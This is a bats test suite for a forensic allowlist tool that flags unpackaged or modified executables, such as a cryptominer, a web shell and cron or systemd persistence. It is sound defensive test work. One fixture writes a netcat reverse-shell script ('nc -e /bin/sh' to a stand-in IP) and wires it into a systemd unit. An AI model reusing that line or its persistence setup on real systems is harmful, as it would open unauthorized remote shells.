#!/usr/bin/env bats
# SPDX-License-Identifier: Apache-2.0
# spoor-baseline allowlist: the reference scenario's miner, web shell and
# cron entry are caught; a clean tree whose dpkg digests match its
# binaries gives nothing; allowlists and baselines vouch; bad allowlists.

load helpers/common

setup() {
	tmp=$BATS_TEST_TMPDIR
}

# A clean system in $tmp/t: an ELF and a script, both listed with their
# MD5 by a fake dpkg database, run by a unit, a cron entry and a profile.
make_clean() {
	local t=$tmp/t
	mkdir -p "$t/usr/bin" "$t/var/lib/dpkg/info" "$t/lib/systemd/system" \
	    "$t/etc/cron.d" "$t/etc/profile.d" "$t/usr/lib/x86_64-linux-gnu"
	cp /bin/true "$t/usr/bin/true"
	printf '#!/bin/sh\necho hello\n' >"$t/usr/bin/hello"
	chmod 755 "$t/usr/bin/hello"
	cp "$(readlink -f /lib/x86_64-linux-gnu/libc.so.6)" "$t/usr/lib/x86_64-linux-gnu/libc.so.6"
	printf '[Service]\nExecStart=/usr/bin/hello --loop\n' >"$t/lib/systemd/system/hello.service"
	echo '*/5 * * * * root /usr/bin/true' >"$t/etc/cron.d/tick"
	echo 'alias ll="ls -l"' >"$t/etc/profile.d/alias.sh"
	printf 'Package: hello\nStatus: install ok installed\nArchitecture: amd64\nVersion: 1.0\n\n' \
	    >"$t/var/lib/dpkg/status"
	printf '#!/bin/sh\nexit 0\n' >"$t/var/lib/dpkg/info/hello.postinst"
	chmod 755 "$t/var/lib/dpkg/info/hello.postinst"
	(cd "$t" && md5sum usr/bin/true usr/bin/hello usr/lib/x86_64-linux-gnu/libc.so.6 \
	    lib/systemd/system/hello.service) >"$t/var/lib/dpkg/info/hello.md5sums"
}

@test "the scenario's miner, web shell and cron entry are reported" {
	need "$SCENARIO/web01.E01"
	run -1 --separate-stderr spoor-baseline allowlist --json "$SCENARIO/web01.E01"
	# the miner: an ELF no package lists, named by the @reboot line
	jq -s -e 'any(.[]; .path == "/tmp/.X11-unix/.x/kswapd0" and .what == "elf" and
	    (.why | startswith("not in any package")) and
	    (.from | startswith("cron /var/spool/cron/crontabs/www-data: @reboot /tmp/.X11-unix/.x/kswapd0")))' \
	    <<<"$output" >/dev/null || fail "miner not reported: $output"
	# the web shell: PHP under the web root, whatever its mode
	jq -s -e 'any(.[]; .path == "/var/www/html/uploads/thumb.php" and .what == "web-script")' \
	    <<<"$output" >/dev/null || fail "web shell not reported"
	# its digest is the one sha256sum gives of the file's content
	sum=$(spoor-cat "$SCENARIO/web01.E01" /tmp/.X11-unix/.x/kswapd0 | sha256sum | cut -c1-64)
	jq -s -e --arg s "$sum" 'any(.[]; .path == "/tmp/.X11-unix/.x/kswapd0" and .sha256 == $s)' <<<"$output" >/dev/null
	run -1 --separate-stderr spoor-baseline allowlist "$SCENARIO/web01.E01"
	assert_line --regexp '^elf +/tmp/\.X11-unix/\.x/kswapd0  not in any package; named by cron /var/spool/cron/crontabs/www-data: @reboot '
}

@test "a clean tree whose dpkg digests match gives nothing (status 0)" {
	make_clean
	run -0 --separate-stderr spoor-baseline allowlist "$tmp/t"
	assert_output ""
	run -0 --separate-stderr spoor-baseline allowlist --json "$tmp/t"
	assert_equal "$(jq -c '[.executables, .packaged, .unvouched]' <<<"$output")" "[3,3,0]"
}

@test "a modified packaged binary and an unlisted one run by a unit are reported with why" {
	make_clean
	local t=$tmp/t
	printf '#!/bin/sh\necho changed\n' >"$t/usr/bin/hello"
	printf '#!/bin/sh\nnc -e /bin/sh 203.0.113.66 4444\n' >"$t/usr/local-backdoor"
	chmod 755 "$t/usr/local-backdoor"
	printf '[Service]\nExecStart=-/usr/local-backdoor\n' >"$t/lib/systemd/system/bd.service"
	run -1 --separate-stderr spoor-baseline allowlist --json "$t"
	got=$(jq -r 'select(.record == "unvouched") | "\(.path)|\(.why)|\(.from // "")"' <<<"$output" | sort)
	assert_equal "$got" "/usr/bin/hello|digest differs from the package's (hello)|unit /lib/systemd/system/hello.service
/usr/local-backdoor|not in any package|unit /lib/systemd/system/bd.service"
}

@test "a command a unit or cron entry names that is not there is reported missing, through merged-/usr links" {
	make_clean
	local t=$tmp/t
	# merged /usr: /bin and /sbin are links into usr/
	ln -s usr/bin "$t/bin"
	mkdir -p "$t/usr/sbin"
	ln -s usr/sbin "$t/sbin"
	# a unit and a cron entry through /bin: the same file as /usr/bin
	printf '[Service]\nExecStart=/bin/hello\n' >"$t/lib/systemd/system/alias.service"
	echo '@reboot root /sbin/../bin/true' >"$t/etc/cron.d/boot"
	run -0 --separate-stderr spoor-baseline allowlist --json "$t"
	assert_equal "$(jq -c '[.executables, .unvouched, .missing]' <<<"$output")" "[3,0,0]"
	# persistence whose program was deleted, and one through a dangling link
	printf '[Service]\nExecStart=/usr/sbin/kworkerd -q\nExecStartPost=/bin/true /opt/gone\n' >"$t/lib/systemd/system/kw.service"
	ln -s /opt/nowhere/agent "$t/usr/bin/agent"
	echo '*/10 * * * * root /bin/agent --beacon' >"$t/etc/cron.d/agent"
	ln -s loop1 "$t/usr/bin/loop2"
	ln -s loop2 "$t/usr/bin/loop1"
	echo '* * * * * root /usr/bin/loop1' >"$t/etc/cron.d/loop"
	run -1 --separate-stderr spoor-baseline allowlist --json "$t"
	got=$(jq -r 'select(.record == "unvouched") | "\(.what)|\(.path)|\(.why)|\(.from)"' <<<"$output" | sort)
	assert_equal "$got" "missing|/bin/agent|named as a command, not on the file system|cron /etc/cron.d/agent: */10 * * * * root /bin/agent --beacon
missing|/usr/bin/loop1|named as a command, not on the file system|cron /etc/cron.d/loop: * * * * * root /usr/bin/loop1
missing|/usr/sbin/kworkerd|named as a command, not on the file system|unit /lib/systemd/system/kw.service"
	assert_equal "$(jq -c 'select(.record == "summary") | [.unvouched, .missing]' <<<"$output")" "[0,3]"
	# text: the same, and status 1
	run -1 --separate-stderr spoor-baseline allowlist "$t"
	assert_line --regexp '^missing +/usr/sbin/kworkerd  named as a command, not on the file system; named by unit /lib/systemd/system/kw.service$'
}

@test "an allowlist vouches by path, glob or SHA-256; a baseline by path and digest" {
	make_clean
	local t=$tmp/t
	mkdir -p "$t/opt/vendor/bin"
	printf '#!/bin/sh\n' >"$t/opt/vendor/bin/a"
	printf '#!/bin/sh\necho b\n' >"$t/opt/vendor/b"
	printf '#!/bin/sh\necho c\n' >"$t/opt/c"
	chmod 755 "$t/opt/vendor/bin/a" "$t/opt/vendor/b" "$t/opt/c"
	run -1 --separate-stderr spoor-baseline allowlist "$t"
	[ "${#lines[@]}" -eq 3 ]
	printf '# vendor tools\n/opt/vendor/bin/*\nsha256:%s\n' \
	    "$(sha256sum <"$t/opt/vendor/b" | cut -c1-64)" >"$tmp/allow"
	run -1 --separate-stderr spoor-baseline allowlist --allow "$tmp/allow" "$t"
	assert_output "script      /opt/c  not in any package, not allowlisted"
	spoor-baseline create -o "$tmp/base.db" "$t" >/dev/null
	run -0 --separate-stderr spoor-baseline allowlist --allow "$tmp/allow" --baseline "$tmp/base.db" "$t"
	echo 'echo more' >>"$t/opt/c"
	run -1 --separate-stderr spoor-baseline allowlist --baseline "$tmp/base.db" "$t"
	assert_line "script      /opt/c  not in any package, digest differs from the baseline"
}

@test "-c: what nothing vouches for is a detection of namespace allowlist" {
	need "$SCENARIO/web01.E01"
	run -1 --separate-stderr spoor-baseline allowlist -c "$tmp/case.db" "$SCENARIO/web01.E01"
	n=${#lines[@]}
	run -0 sqlite3 "$tmp/case.db" "SELECT count(*) FROM detections WHERE namespace = 'allowlist' AND name = 'not-allowlisted'"
	assert_output "$n"
	run -0 sqlite3 "$tmp/case.db" "SELECT reason FROM detections WHERE path = '/tmp/.X11-unix/.x/kswapd0'"
	assert_output --partial "named by cron /var/spool/cron/crontabs/www-data"
}

@test "a malformed allowlist line is an error naming its line (65); a missing one 66" {
	make_clean
	printf '/usr/bin/*\nsha256:1234\n' >"$tmp/allow"
	run -65 --separate-stderr spoor-baseline allowlist --allow "$tmp/allow" "$tmp/t"
	assert_output ""
	[[ "$stderr" == *"$tmp/allow: line 2: 'sha256:1234': not an absolute path, a glob or a SHA-256"* ]] || fail "$stderr"
	printf '/usr/bin/true extra\n' >"$tmp/allow"
	run -65 --separate-stderr spoor-baseline allowlist --allow "$tmp/allow" "$tmp/t"
	[[ "$stderr" == *"line 1: text after the pattern"* ]] || fail "$stderr"
	run -66 --separate-stderr spoor-baseline allowlist --allow "$tmp/none" "$tmp/t"
	[[ "$stderr" == *"'$tmp/none'"* ]] || fail "$stderr"
}
